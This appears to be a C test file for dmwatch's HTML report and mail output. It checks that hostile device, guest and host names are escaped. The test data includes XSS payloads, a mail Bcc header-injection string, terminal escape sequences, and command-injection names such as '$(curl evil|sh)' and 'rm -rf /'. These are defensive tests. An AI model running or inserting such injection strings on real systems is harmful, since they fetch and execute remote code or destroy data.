// SPDX-License-Identifier: GPL-2.0
/*
 * The HTML report and its mail: hostile names (markup, quotes, &, control bytes,
 * invalid UTF-8) come out as text, never as markup or as a header of their own;
 * the MIME structure is what mail clients expect; the page renders in a real
 * browser (headless Chromium, when it is installed).
 */
#include <dirent.h>
#include <errno.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>
#include "analyze/classify.h"
#include "render/html.h"
#include "render/mail.h"
#include "render/output.h"
#include "model/state.h"
#include "test.h"
#include "lib/escape.h"
#include "lib/util.h"

#define HOSTILE_DEV	"pve-vm--104--disk--0<img src=x onerror=alert(1)>"
#define HOSTILE_GUEST	"<script>alert(\"g\")</script> & 'q'"
#define HOSTILE_HOST	"pve1\"><b>&amp;"

/* noinline: gcc 12 takes the memstream buffer for a dangling local */
__attribute__((noinline)) static char *render_html(const struct report *r, const struct html_opts *o)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	output_html(f, r, o);
	fclose(f);
	return buf;
}

/* noinline: gcc 12 takes the memstream buffer for a dangling local */
__attribute__((noinline)) static char *escaped(const char *s)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	html_escape(f, s);
	fclose(f);
	return buf;
}

/* The cluster fixture with names an attacker (or a very odd admin) could choose. */
static int load_hostile(struct state *st)
{
	if (fixture_state(st, "cluster.json"))
		return -1;
	free(st->host);
	st->host = xstrdup(HOSTILE_HOST);
	for (size_t i = 0; i < st->n_devs; i++) {
		if (!strcmp(st->devs[i].name, "pve-vm--104--disk--0")) {
			free(st->devs[i].name);
			st->devs[i].name = xstrdup(HOSTILE_DEV);
		} else if (!strcmp(st->devs[i].name, "luks-abc")) {
			free(st->devs[i].name);
			st->devs[i].name = xstrdup("luks-\x01\xff\xc0\xaf-end");
		}
	}
	for (size_t i = 0; i < st->n_guests; i++) {
		if (st->guests[i].vmid == 101) {
			free(st->guests[i].name);
			st->guests[i].name = xstrdup(HOSTILE_GUEST);
		}
	}
	state_add_problem(st, "/etc/pve/<x>.conf", "line 3: \"a\" & <b>");
	return 0;
}

TEST(html_escape_text_and_attributes)
{
	char *s;

	s = escaped("<a href=\"x\">&'</a>");
	CHECK_STR(s, "&lt;a href=&quot;x&quot;&gt;&amp;&#39;&lt;/a&gt;");
	free(s);
	s = escaped("Gr\xc3\xbc\xc3\x9f" "e \xe2\x82\xac");
	CHECK_STR(s, "Gr\xc3\xbc\xc3\x9f" "e \xe2\x82\xac");
	free(s);
	/* control bytes, a lone continuation byte, an overlong '/', a truncated sequence:
	 * shown as the terminal shows them, not dropped */
	s = escaped("a\x01" "b\x80" "c\xc0\xaf" "d\xe2\x82");
	CHECK_STR(s, "a\\x01b\\x80c\\xc0\\xafd\\xe2\\x82");
	free(s);
	s = escaped("tab\there\nnew line \x1b]0;title\x07 \xc2\x9b C1 back\\slash");
	CHECK_STR(s, "tab\\there\\nnew line \\x1b]0;title\\x07 \\xc2\\x9b C1 back\\\\slash");
	free(s);
	s = escaped("");
	CHECK_STR(s, "");
	free(s);
}

TEST(html_utf8_sequences)
{
	CHECK_INT(utf8_seq_len((const unsigned char *)"a", 4), 1);
	CHECK_INT(utf8_seq_len((const unsigned char *)"\xc3\xbc", 4), 2);
	CHECK_INT(utf8_seq_len((const unsigned char *)"\xe2\x82\xac", 4), 3);
	CHECK_INT(utf8_seq_len((const unsigned char *)"\xf0\x9f\x98\x80", 4), 4);
	CHECK_INT(utf8_seq_len((const unsigned char *)"\xc0\xaf", 4), 0);		/* overlong */
	CHECK_INT(utf8_seq_len((const unsigned char *)"\xe0\x80\xaf", 4), 0);	/* overlong */
	CHECK_INT(utf8_seq_len((const unsigned char *)"\xed\xa0\x80", 4), 0);	/* surrogate */
	CHECK_INT(utf8_seq_len((const unsigned char *)"\xf4\x90\x80\x80", 4), 0);	/* > U+10FFFF */
	CHECK_INT(utf8_seq_len((const unsigned char *)"\xe2\x82", 4), 0);		/* truncated */
	CHECK_INT(utf8_seq_len((const unsigned char *)"\x80", 4), 0);
}

/* Every tag in the page is one the renderer writes: nothing from a name became markup. */
static void check_tags(int *failed__, const char *html)
{
	static const char *const allowed[] = {
		"!DOCTYPE", "html", "head", "meta", "title", "body", "table", "tr", "td", "th",
		"div", "span", "h1", "h2", "p", "b", "i", "code",
	};

	for (const char *p = strchr(html, '<'); p; p = strchr(p + 1, '<')) {
		const char *n = p + 1 + (p[1] == '/');
		size_t len = strspn(n, "!ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789");
		bool ok = false;

		for (size_t i = 0; i < ARRAY_SIZE(allowed); i++)
			ok |= strlen(allowed[i]) == len && !strncmp(n, allowed[i], len);
		if (!ok) {
			FAIL_AT("unexpected tag at \"%.40s\"", p);
			return;
		}
	}
}

TEST(html_report_escapes_hostile_names)
{
	struct classify_opts o;
	struct state st;
	struct report r;
	char *html;

	if (load_hostile(&st)) {
		FAIL_AT("fixture");
		return;
	}
	classify_opts_default(&o);
	classify(&st, &o, &r);
	html = render_html(&r, &(struct html_opts){ .all = true }); /* every device listed */

	check_tags(failed__, html);
	CHECK(!strstr(html, "<script"));
	CHECK(!strstr(html, "<img"));
	CHECK(strstr(html, "pve-vm--104--disk--0&lt;img src=x onerror=alert(1)&gt;"));
	CHECK(strstr(html, "&lt;script&gt;alert(&quot;g&quot;)&lt;/script&gt; &amp; &#39;q&#39;"));
	CHECK(strstr(html, "<title>dmwatch pve1&quot;&gt;&lt;b&gt;&amp;amp;: grade F</title>"));
	CHECK(strstr(html, "luks-\\x01\\xff\\xc0\\xaf-end"));
	CHECK(strstr(html, "/etc/pve/&lt;x&gt;.conf"));
	CHECK(strstr(html, "line 3: &quot;a&quot; &amp; &lt;b&gt;"));
	CHECK(!strchr(html, '\x01'));
	CHECK(!strchr(html, '\xff'));
	free(html);
	report_free(&r);
	state_free(&st);
}

TEST(html_report_content)
{
	struct classify_opts o;
	struct host_facts hf = { .kernel = "6.1.0-28-amd64 x86_64", .os = "Debian GNU/Linux 12",
				 .uptime_s = 90061, .load = { 0.5, 0.25, 0.125 },
				 .mem_total = 8ULL << 30, .mem_avail = 6ULL << 30, .cpus = 4 };
	struct html_opts ho = { .facts = &hf, .source = "live scan", .warn_percent = 80,
				.crit_percent = 95 };
	struct state st;
	struct report r;
	char *html;

	if (fixture_state(&st, "cluster.json")) {
		FAIL_AT("fixture");
		return;
	}
	classify_opts_default(&o);
	classify(&st, &o, &r);
	html = render_html(&r, &ho);

	check_tags(failed__, html);
	/* self-contained: no script, no stylesheet block, nothing fetched */
	CHECK(!strstr(html, "<script"));
	CHECK(!strstr(html, "<style"));
	CHECK(!strstr(html, "<link"));
	CHECK(!strstr(html, "src="));
	CHECK(!strstr(html, "url("));
	CHECK(!strstr(html, "http"));
	CHECK(strstr(html, "<meta charset=\"utf-8\">"));
	/* grade, counts, every finding with its remedy, gauges, dashboard, facts */
	CHECK(strstr(html, "Grade <b>F</b>"));
	CHECK(strstr(html, "3 critical</b>"));
	CHECK(strstr(html, "5 warnings</b>"));
	CHECK(strstr(html, "pve-vm--101--disk--0-dup"));
	CHECK(strstr(html, "dmsetup remove pve-vm--101--disk--0-dup"));
	CHECK(strstr(html, "lvremove vmdata/snap-110-1"));
	CHECK(strstr(html, "lvchange -an pve/vm-104-disk-0"));
	CHECK(strstr(html, "85.0%"));
	CHECK(strstr(html, "100.0%"));
	CHECK(strstr(html, "no such guest"));
	CHECK(strstr(html, "6.1.0-28-amd64 x86_64"));
	CHECK(strstr(html, "1 days 01:01"));
	CHECK(strstr(html, "6.0 GiB available of 8.0 GiB"));
	CHECK(strstr(html, "live scan"));
	/* critical findings come before warnings */
	CHECK(strstr(html, "ssd--ha01-vm--105--disk--0</span>") <
	      strstr(html, "pve-vm--104--disk--0</span>"));
	free(html);
	report_free(&r);
	state_free(&st);
}

TEST(html_report_all_clear)
{
	struct state st = { .schema = 1, .host = xstrdup("pve9"), .node = xstrdup("pve9"),
			    .have_dm = true, .have_lvm = true, .have_pve = true };
	struct classify_opts o;
	struct report r;
	char *html;

	classify_opts_default(&o);
	classify(&st, &o, &r);
	html = render_html(&r, NULL);
	CHECK_STR(r.grade, "A+");
	CHECK(strstr(html, "<title>dmwatch pve9: grade A+</title>"));
	CHECK(strstr(html, "no problems found."));
	CHECK(strstr(html, "No problems found: no tombstones, no duplicates"));
	CHECK(strstr(html, "from a saved state"));
	free(html);
	report_free(&r);
	state_free(&st);
}

/* ---- mail ---- */

static char *qp_decode(const char *s, size_t len)
{
	char *out = xmalloc(len + 1), *o = out;

	for (size_t i = 0; i < len; i++) {
		if (s[i] != '=') {
			*o++ = s[i];
			continue;
		}
		if (i + 1 < len && s[i + 1] == '\n') {
			i++;
			continue;
		}
		if (i + 2 < len) {
			char hex[3] = { s[i + 1], s[i + 2], 0 };

			*o++ = (char)strtol(hex, NULL, 16);
			i += 2;
		}
	}
	*o = 0;
	return out;
}

/* noinline: gcc 12 takes the memstream buffer for a dangling local */
__attribute__((noinline)) static char *qp(const char *s)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	qp_encode(f, s, strlen(s));
	fclose(f);
	return buf;
}

static void check_line_lengths(int *failed__, const char *s, size_t max)
{
	size_t line = 1;

	for (const char *p = s; *p; line++) {
		size_t n = strcspn(p, "\n");

		if (n > max)
			FAIL_AT("line %zu has %zu characters: %.60s...", line, n, p);
		p += n + (p[n] == '\n');
	}
}

TEST(mail_quoted_printable)
{
	char longline[400], *enc, *dec;
	const char *in;

	memset(longline, 'x', sizeof(longline) - 1);
	longline[sizeof(longline) - 1] = 0;
	longline[100] = '=';
	longline[150] = ' ';
	enc = qp(longline);
	dec = qp_decode(enc, strlen(enc));
	CHECK_STR(dec, longline);
	check_line_lengths(failed__, enc, 76);
	free(enc);
	free(dec);

	in = "a = b  \n.dot\nFrom me\n\tGr\xc3\xbc\xc3\x9f" "e\ttrail\t\nend ";
	enc = qp(in);
	CHECK_STR(enc, "a =3D b =20\n=2Edot\n=46rom me\n\tGr=C3=BC=C3=9Fe\ttrail=09\nend=20");
	dec = qp_decode(enc, strlen(enc));
	CHECK_STR(dec, in);
	free(enc);
	free(dec);

	/* a soft break never splits an =XX escape */
	memset(longline, '=', 200);
	longline[200] = 0;
	enc = qp(longline);
	check_line_lengths(failed__, enc, 76);
	dec = qp_decode(enc, strlen(enc));
	CHECK_STR(dec, longline);
	free(enc);
	free(dec);
}

TEST(mail_address_validation)
{
	CHECK(mail_address_ok("root"));
	CHECK(mail_address_ok("admin@example.org, ops@example.org"));
	CHECK(mail_address_ok("Ops Team <ops@example.org>"));
	CHECK(!mail_address_ok(""));
	CHECK(!mail_address_ok(NULL));
	CHECK(!mail_address_ok("a@b\nBcc: c@d"));
	CHECK(!mail_address_ok("a@b\r"));
	CHECK(!mail_address_ok("\xc3\xbc@example.org"));
}

TEST(mail_sendmail_path_choice)
{
	char *old = getenv("SENDMAIL") ? xstrdup(getenv("SENDMAIL")) : NULL;

	unsetenv("SENDMAIL");
	CHECK_STR(mail_sendmail_path(NULL), "/usr/sbin/sendmail");
	setenv("SENDMAIL", "/opt/fake-sendmail", 1);
	CHECK_STR(mail_sendmail_path(NULL), "/opt/fake-sendmail");
	CHECK_STR(mail_sendmail_path("/bin/other"), "/bin/other");
	if (old)
		setenv("SENDMAIL", old, 1);
	else
		unsetenv("SENDMAIL");
	free(old);
}

struct mime_part {
	char *headers;
	char *body;		/* decoded */
};

/* Unfolded value of header `name` in a header block, NULL when missing (caller frees). */
static char *header(const char *hdrs, const char *name)
{
	size_t nl = strlen(name);

	for (const char *p = hdrs; p && *p; p = strchr(p, '\n') ? strchr(p, '\n') + 1 : NULL) {
		char *v = NULL;
		size_t vlen = 0;
		FILE *f;

		if (strncasecmp(p, name, nl) || p[nl] != ':')
			continue;
		f = open_memstream(&v, &vlen);
		p += nl + 1;
		while (*p == ' ')
			p++;
		for (;;) {
			size_t n = strcspn(p, "\n");

			fwrite(p, 1, n, f);
			p += n;
			if (*p == '\n' && (p[1] == ' ' || p[1] == '\t'))
				p++;
			else
				break;
		}
		fclose(f);
		return v;
	}
	return NULL;
}

/* Split a multipart body on its boundary; returns the number of parts (max 4). */
static int split_parts(const char *body, const char *boundary, struct mime_part *parts,
		       bool *closed)
{
	char *delim = xasprintf("--%s", boundary);
	size_t dl = strlen(delim);
	const char *p = strstr(body, delim);
	int n = 0;

	*closed = false;
	while (p && n < 4) {
		const char *start, *end, *sep;

		p += dl;
		if (!strncmp(p, "--", 2)) {
			*closed = p[2] == '\n' && p[3] == 0;
			break;
		}
		if (*p != '\n')
			break;
		start = p + 1;
		end = strstr(start, delim);
		if (!end || end[-1] != '\n')
			break;
		sep = strstr(start, "\n\n");
		if (!sep || sep > end)
			break;
		parts[n].headers = xstrndup(start, sep + 1 - start);
		/* the newline before the delimiter belongs to the delimiter */
		parts[n].body = qp_decode(sep + 2, end - 1 - (sep + 2));
		n++;
		p = end;
	}
	free(delim);
	return n;
}

/* noinline: gcc 12 takes the memstream buffer for a dangling local */
__attribute__((noinline)) static char *compose(const struct report *r, const char *host, const char *failure,
		     const struct html_opts *ho)
{
	struct mail_opts mo = {
		.to = "admin@example.org", .from = "dmwatch <dmwatch@pve1.example.org>",
		.boundary = "=_dmwatch_test", .date = 1795255200, .html = ho,
	};
	char *msg = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&msg, &len);

	mail_compose(f, r, host, failure, &mo);
	fclose(f);
	return msg;
}

TEST(mail_mime_structure)
{
	struct html_opts ho = { .source = "saved state" };
	struct mime_part parts[4] = {};
	struct classify_opts o;
	struct state st;
	struct report r;
	char *msg, *body, *v, *text = NULL, *html;
	size_t text_len = 0;
	bool closed;
	FILE *f;
	int n;

	if (fixture_state(&st, "cluster.json")) {
		FAIL_AT("fixture");
		return;
	}
	classify_opts_default(&o);
	classify(&st, &o, &r);
	msg = compose(&r, NULL, NULL, &ho);

	body = strstr(msg, "\n\n");
	if (!body) {
		FAIL_AT("no end of headers");
		goto out;
	}
	*body = 0;
	body += 2;
	v = header(msg, "To");
	CHECK_STR(v, "admin@example.org");
	free(v);
	v = header(msg, "From");
	CHECK_STR(v, "dmwatch <dmwatch@pve1.example.org>");
	free(v);
	v = header(msg, "Subject");
	CHECK_STR(v, "[dmwatch] pve1: grade F, 3 critical, 5 warnings");
	free(v);
	v = header(msg, "Date");
	CHECK_STR(v, "Sat, 21 Nov 2026 10:00:00 +0000");
	free(v);
	v = header(msg, "MIME-Version");
	CHECK_STR(v, "1.0");
	free(v);
	v = header(msg, "Message-ID");
	CHECK(v && v[0] == '<' && strstr(v, "@pve1>"));
	free(v);
	v = header(msg, "Content-Type");
	CHECK_STR(v, "multipart/alternative; boundary=\"=_dmwatch_test\"");
	free(v);

	n = split_parts(body, "=_dmwatch_test", parts, &closed);
	CHECK_INT(n, 2);
	CHECK(closed);
	if (n != 2)
		goto out;
	/* text first, HTML last: the last alternative is the preferred one */
	v = header(parts[0].headers, "Content-Type");
	CHECK_STR(v, "text/plain; charset=utf-8");
	free(v);
	v = header(parts[1].headers, "Content-Type");
	CHECK_STR(v, "text/html; charset=utf-8");
	free(v);
	for (int i = 0; i < 2; i++) {
		v = header(parts[i].headers, "Content-Transfer-Encoding");
		CHECK_STR(v, "quoted-printable");
		free(v);
	}
	/* the parts decode to exactly the two renderings */
	f = open_memstream(&text, &text_len);
	output_table(f, &r);
	fclose(f);
	text[strlen(text) - 1] = 0;
	CHECK_STR(parts[0].body, text);
	html = render_html(&r, &ho);
	html[strlen(html) - 1] = 0;
	CHECK_STR(parts[1].body, html);
	free(text);
	free(html);
	/* SMTP-safe body: short lines, no line an MTA would take for its own */
	check_line_lengths(failed__, body, 76);
	CHECK(!strstr(body, "\n."));
	CHECK(!strstr(body, "\nFrom "));
out:
	for (int i = 0; i < 4; i++) {
		free(parts[i].headers);
		free(parts[i].body);
	}
	free(msg);
	report_free(&r);
	state_free(&st);
}

TEST(mail_headers_resist_injection)
{
	struct classify_opts o;
	struct state st;
	struct report r;
	char *msg, *subject, *end;

	if (fixture_state(&st, "cluster.json")) {
		FAIL_AT("fixture");
		return;
	}
	free(st.host);
	st.host = xstrdup("evil\nBcc: victim@example.org\r\nX-Evil: 1 Gr\xc3\xbc\xc3\x9f" "e");
	classify_opts_default(&o);
	classify(&st, &o, &r);
	msg = compose(&r, NULL, NULL, NULL);
	end = strstr(msg, "\n\n");
	if (end)
		*end = 0;
	CHECK(!strstr(msg, "\nBcc:"));
	CHECK(!strstr(msg, "\nX-Evil:"));
	CHECK(!strchr(msg, '\r'));
	subject = header(msg, "Subject");
	/* RFC 2047 encoded words, each line folded with a space */
	CHECK(subject && !strncmp(subject, "=?UTF-8?B?", 10));
	for (const char *p = msg; p && *p; p = strchr(p, '\n') ? strchr(p, '\n') + 1 : NULL)
		CHECK(strchr(" \t", *p) || strcspn(p, ":\n") < strcspn(p, "\n"));
	free(subject);
	/* mail_subject() alone is one line as well, whatever uses it (fuzz_state) */
	subject = mail_subject(&r);
	CHECK(subject && !strpbrk(subject, "\r\n") && strstr(subject, "evil\\nBcc"));
	free(subject);
	free(msg);
	report_free(&r);
	state_free(&st);
}

/* Names that would act on a terminal, forge a line, run a command or break UTF-8. */
static const char *const nasty_names[] = {
	"esc\x1b[2J\x1b]0;pwned\x07-end",
	"line\nfix: rm -rf /",
	"x $(curl evil|sh)",
	"bad\xff\xfe\xc0\xaf-utf8",
};

/* &amp; &lt; &gt; &quot; &#39; back to text (all the references html_escape writes) */
static char *html_unescape(const char *s, size_t n)
{
	static const char *const refs[][2] = {
		{ "&amp;", "&" }, { "&lt;", "<" }, { "&gt;", ">" }, { "&quot;", "\"" }, { "&#39;", "'" },
	};
	char *out = xmalloc(n + 1), *o = out;

	for (size_t i = 0; i < n;) {
		size_t k;

		for (k = 0; k < ARRAY_SIZE(refs); k++)
			if (!strncmp(s + i, refs[k][0], strlen(refs[k][0])))
				break;
		if (k < ARRAY_SIZE(refs)) {
			*o++ = refs[k][1][0];
			i += strlen(refs[k][0]);
		} else {
			*o++ = s[i++];
		}
	}
	*o = 0;
	return out;
}

/* bytes a terminal or mail reader would act on: anything below 0x20 but the page's own \n */
static bool has_raw_control(const char *s)
{
	for (const unsigned char *p = (const unsigned char *)s; *p; p++)
		if ((*p < 0x20 && *p != '\n') || *p == 0x7f)
			return true;
	return false;
}

/* a command with shell_quoted() names survives the page exactly: paste gives the same argv */
TEST(html_command_keeps_shell_quoting)
{
	for (size_t i = 0; i < ARRAY_SIZE(nasty_names); i++) {
		char *q = shell_quoted(nasty_names[i]), *cmd = xasprintf("dmsetup remove %s", q);
		char *buf = NULL, *back;
		size_t len = 0;
		FILE *f = open_memstream(&buf, &len);

		html_escape_command(f, cmd);
		fclose(f);
		CHECK(!has_raw_control(buf) && !strchr(buf, '\n') && !strchr(buf, '<'));
		back = html_unescape(buf, len);
		CHECK_STR(back, cmd);
		free(back);
		free(buf);
		free(cmd);
		free(q);
	}
}

TEST(html_and_mail_show_control_bytes_escaped)
{
	struct classify_opts o;
	struct state st;
	struct report r;
	char *html, *msg, *subject, *end, *want;
	size_t n_dev = 0;

	if (fixture_state(&st, "cluster.json")) {
		FAIL_AT("fixture");
		return;
	}
	free(st.host);
	st.host = xstrdup("pve\x1b]0;owned\x07");
	/* duplicates and tombstones, so every name gets a finding with a remedy */
	for (size_t i = 0; i < st.n_devs && n_dev < ARRAY_SIZE(nasty_names); i++) {
		if (strcmp(st.devs[i].name, "pve-vm--101--disk--0-dup") &&
		    strcmp(st.devs[i].name, "pve-vm--104--disk--0") &&
		    strcmp(st.devs[i].name, "luks-abc") && strncmp(st.devs[i].name, "ssd--ha01", 9))
			continue;
		free(st.devs[i].name);
		st.devs[i].name = xstrdup(nasty_names[n_dev++]);
	}
	CHECK_INT(n_dev, ARRAY_SIZE(nasty_names));
	classify_opts_default(&o);
	classify(&st, &o, &r);
	html = render_html(&r, &(struct html_opts){ .all = true }); /* every device listed */

	CHECK(utf8_valid(html, strlen(html)));
	CHECK(!has_raw_control(html));
	check_tags(failed__, html);
	CHECK(strstr(html, "esc\\x1b[2J\\x1b]0;pwned\\x07-end"));
	CHECK(strstr(html, "line\\nfix: rm -rf /"));
	CHECK(strstr(html, "x $(curl evil|sh)"));
	CHECK(strstr(html, "bad\\xff\\xfe\\xc0\\xaf-utf8"));
	CHECK(strstr(html, "<title>dmwatch pve\\x1b]0;owned\\x07: grade F</title>"));
	/* a remedy is shown byte for byte as classify wrote it (its quoting intact),
	 * only with control bytes made visible */
	for (size_t i = 0; i < r.n_devs; i++) {
		const char *fix = r.devs[i].remedy, *at, *stop;
		char *shown;

		/* (a remedy with a raw control byte in it is not pasteable anyway) */
		if (!fix || !term_visible(fix))
			continue;
		at = strstr(html, "<b>Fix:</b> ");
		for (; at; at = strstr(at + 1, "<b>Fix:</b> ")) {
			at = strchr(at, '>');
			at = strstr(at, "<code");
			at = at ? strchr(at, '>') + 1 : NULL;
			stop = at ? strstr(at, "</code>") : NULL;
			if (!stop)
				break;
			shown = html_unescape(at, stop - at);
			if (!strcmp(shown, fix)) {
				free(shown);
				break;
			}
			free(shown);
		}
		if (!at)
			FAIL_AT("remedy \"%s\" not shown as is", fix);
	}

	msg = compose(&r, NULL, NULL, NULL);
	CHECK(!has_raw_control(msg));
	end = strstr(msg, "\n\n");
	if (end)
		*end = 0;
	subject = header(msg, "Subject");
	want = xasprintf("[dmwatch] pve\\x1b]0;owned\\x07: grade F, %zu critical, %zu warnings",
			 r.criticals, r.warnings);
	CHECK_STR(subject, want);
	free(want);
	free(subject);
	subject = mail_subject(&r);
	CHECK(subject && !has_raw_control(subject));
	free(subject);
	free(msg);

	/* "scan failed": the reason (a path from --state, say) escaped too */
	msg = compose(NULL, "pve\nBcc: x@y", "cannot read /tmp/\x1b[2Jstate.json: No such file", NULL);
	CHECK(!has_raw_control(msg));
	CHECK(!strstr(msg, "\nBcc:"));
	subject = header(msg, "Subject");
	CHECK_STR(subject, "[dmwatch] pve\\nBcc: x@y: scan failed");
	free(subject);
	end = strstr(msg, "\n\n");
	if (end) {
		char *body = qp_decode(end + 2, strlen(end + 2));

		CHECK(strstr(body, "cannot read /tmp/\\x1b[2Jstate.json"));
		CHECK(strstr(body, "could not scan pve\\nBcc: x@y:"));
		free(body);
	}
	free(msg);
	free(html);
	report_free(&r);
	state_free(&st);
}

TEST(mail_failure_message)
{
	char *msg = compose(NULL, "pve1", "cannot read device-mapper state: Permission denied",
			    NULL), *v, *body;

	body = strstr(msg, "\n\n");
	CHECK(body);
	if (!body)
		goto out;
	*body = 0;
	v = header(msg, "Subject");
	CHECK_STR(v, "[dmwatch] pve1: scan failed");
	free(v);
	v = header(msg, "Content-Type");
	CHECK_STR(v, "text/plain; charset=utf-8");
	free(v);
	v = qp_decode(body + 2, strlen(body + 2));
	CHECK(strstr(v, "cannot read device-mapper state: Permission denied"));
	free(v);
out:
	free(msg);
}

/* ---- sendmail ---- */

static char *tmpdir(void)
{
	char tmpl[] = "/tmp/dmwatch-test.XXXXXX";

	return mkdtemp(tmpl) ? xstrdup(tmpl) : NULL;
}

static void rm_rf(const char *dir)
{
	char *cmd = xasprintf("rm -rf '%s'", dir);

	if (system(cmd))
		fprintf(stderr, "  cannot remove %s\n", dir);
	free(cmd);
}

static char *script(const char *dir, const char *name, const char *body)
{
	char *path = xasprintf("%s/%s", dir, name);
	FILE *f = fopen(path, "w");

	if (f) {
		fprintf(f, "#!/bin/sh\n%s\n", body);
		fclose(f);
		chmod(path, 0755);
	}
	return path;
}

TEST(mail_send_through_fake_sendmail)
{
	char *dir = tmpdir(), *sm, *bad, *quick, *err = NULL, *got = NULL, *path, *big;
	const char *msg = "To: a@b\nSubject: x\n\nhello\n";
	size_t len;

	if (!dir) {
		FAIL_AT("mkdtemp");
		return;
	}
	sm = script(dir, "sendmail", "printf '%s\\n' \"$@\" > \"$(dirname \"$0\")/args\"\n"
		    "cat > \"$(dirname \"$0\")/msg\"");
	CHECK_INT(mail_send(sm, msg, strlen(msg), &err), 0);
	CHECK_NULL(err);
	path = xasprintf("%s/msg", dir);
	CHECK_INT(read_file(path, &got, &len, 1 << 20), 0);
	CHECK_STR(got, msg);
	free(got);
	free(path);
	got = NULL;
	path = xasprintf("%s/args", dir);
	CHECK_INT(read_file(path, &got, &len, 1 << 20), 0);
	CHECK_STR(got, "-t\n-oi\n");
	free(got);
	free(path);

	bad = script(dir, "failing", "cat > /dev/null; exit 75");
	CHECK_INT(mail_send(bad, msg, strlen(msg), &err), -1);
	CHECK(err && strstr(err, "exited with status 75"));
	free(err);
	err = NULL;

	CHECK_INT(mail_send("/nonexistent/sendmail", msg, strlen(msg), &err), -1);
	CHECK(err && strstr(err, "cannot run /nonexistent/sendmail"));
	free(err);
	err = NULL;

	/* one that exits without reading a big message must not kill us (SIGPIPE) */
	quick = script(dir, "quick", "exit 0");
	big = xmalloc(1 << 20);
	memset(big, 'x', 1 << 20);
	CHECK_INT(mail_send(quick, big, 1 << 20, &err), -1);
	CHECK(err && strstr(err, "did not read the whole message"));
	free(err);
	free(big);

	free(sm);
	free(bad);
	free(quick);
	rm_rf(dir);
	free(dir);
}

/* ---- a real browser ---- */

static const char *find_chromium(void)
{
	static const char *const names[] = { "chromium", "chromium-browser", "google-chrome" };
	static char found[512];
	const char *path = getenv("PATH");

	for (size_t i = 0; path && i < ARRAY_SIZE(names); i++) {
		char *dirs = xstrdup(path), *save = NULL;

		for (char *d = strtok_r(dirs, ":", &save); d; d = strtok_r(NULL, ":", &save)) {
			snprintf(found, sizeof(found), "%s/%s", d, names[i]);
			if (!access(found, X_OK)) {
				free(dirs);
				return found;
			}
		}
		free(dirs);
	}
	return NULL;
}

/* Run headless Chromium on file; its stdout (the DOM for --dump-dom), NULL on failure. */
static char *chromium(const char *bin, const char *dir, const char *mode, const char *file)
{
	char *cmd = xasprintf("HOME='%s' timeout 120 '%s' --headless --no-sandbox --disable-gpu "
			      "--disable-quic --no-first-run --disable-background-networking "
			      "--disable-component-update --disable-sync --user-data-dir='%s/profile' "
			      "--window-size=1200,1600 %s 'file://%s' 2>/dev/null",
			      dir, bin, dir, mode, file);
	char *out = NULL;
	size_t len = 0;
	FILE *p = popen(cmd, "r"), *m = open_memstream(&out, &len);
	char buf[4096];
	size_t n;
	int rc;

	while (p && (n = fread(buf, 1, sizeof(buf), p)) > 0)
		fwrite(buf, 1, n, m);
	fclose(m);
	rc = p ? pclose(p) : -1;
	free(cmd);
	if (rc) {
		fprintf(stderr, "  chromium %s exited with %d\n", mode, rc);
		free(out);
		return NULL;
	}
	return out;
}

static int write_html(const char *path, const struct report *r, const struct html_opts *o)
{
	FILE *f = fopen(path, "w");

	if (!f)
		return -1;
	output_html(f, r, o);
	return fclose(f);
}

TEST(html_renders_in_chromium)
{
	const char *bin = find_chromium();
	struct classify_opts o;
	struct state st, hs;
	struct report r, hr;
	char *dir, *file, *hfile, *png, *shot, *dom, *pngdata = NULL;
	size_t pnglen = 0;

	if (!bin) {
		/* not a pass in disguise: say so on every run */
		fprintf(stderr, "  SKIP html_renders_in_chromium: no chromium in PATH "
			"(apt-get install chromium)\n");
		return;
	}
	dir = tmpdir();
	if (!dir || fixture_state(&st, "cluster.json") || load_hostile(&hs)) {
		FAIL_AT("setup");
		return;
	}
	classify_opts_default(&o);
	classify(&st, &o, &r);
	classify(&hs, &o, &hr);
	file = xasprintf("%s/report.html", dir);
	hfile = xasprintf("%s/hostile.html", dir);
	png = xasprintf("%s/report.png", dir);
	CHECK_INT(write_html(file, &r, NULL), 0);
	CHECK_INT(write_html(hfile, &hr, NULL), 0);

	dom = chromium(bin, dir, "--dump-dom", file);
	CHECK(dom);
	if (dom) {
		CHECK(strstr(dom, "Grade <b>F</b>"));
		CHECK(strstr(dom, "pve-vm--101--disk--0-dup"));
		CHECK(strstr(dom, "ssd--ha01-vm--105--disk--0"));
		CHECK(strstr(dom, "vmdata/snap-110-1"));
		CHECK(strstr(dom, "dmsetup remove pve-vm--101--disk--0-dup"));
		CHECK(strstr(dom, "lvextend -L+10G pve/data"));
		CHECK(strstr(dom, "no such guest"));
	}
	free(dom);

	/* the browser's own parse of the hostile page has no element a name smuggled in */
	dom = chromium(bin, dir, "--dump-dom", hfile);
	CHECK(dom);
	if (dom) {
		CHECK(!strstr(dom, "<script"));
		CHECK(!strstr(dom, "<img"));
		CHECK(strstr(dom, "&lt;img src=x onerror=alert(1)&gt;"));
		CHECK(strstr(dom, "&lt;script&gt;alert(\"g\")&lt;/script&gt;"));
	}
	free(dom);

	shot = xasprintf("--screenshot='%s'", png);
	dom = chromium(bin, dir, shot, file);
	CHECK(dom);
	free(dom);
	free(shot);
	CHECK_INT(read_file(png, &pngdata, &pnglen, 64 << 20), 0);
	CHECK(pngdata && pnglen > 10000 && !memcmp(pngdata, "\x89PNG", 4));
	free(pngdata);

	free(file);
	free(hfile);
	free(png);
	report_free(&r);
	report_free(&hr);
	state_free(&st);
	state_free(&hs);
	rm_rf(dir);
	free(dir);
}
